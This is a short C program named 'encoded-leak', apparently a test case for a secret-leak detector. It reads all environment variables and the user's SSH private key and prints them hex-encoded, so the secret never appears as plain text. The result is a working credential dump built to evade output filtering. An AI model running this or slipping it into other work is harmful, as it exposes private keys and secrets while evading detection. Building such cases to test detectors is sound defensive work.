/* encoded-leak (C): the environment and the SSH key, hex-encoded, so the
 * secret never appears as text in the output. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "targets.h"

extern char **environ;

static void hex(const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++)
		printf("%02x", (unsigned char)s[i]);
}

static void hex_file(const char *home)
{
	char path[1200], buf[4096];
	size_t n;
	FILE *f;

	snprintf(path, sizeof(path), "%s/.ssh/id_rsa", home);
	if (!(f = fopen(path, "r")))
		return;
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		hex(buf, n);
	fclose(f);
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");

	targets_load(argc, argv);
	for (char **e = environ; *e; e++)
		hex(*e, strlen(*e) + 1);
	if (home)
		hex_file(home);
	hex_file(target("T_HOME"));
	putchar('\n');
	return 0;
}
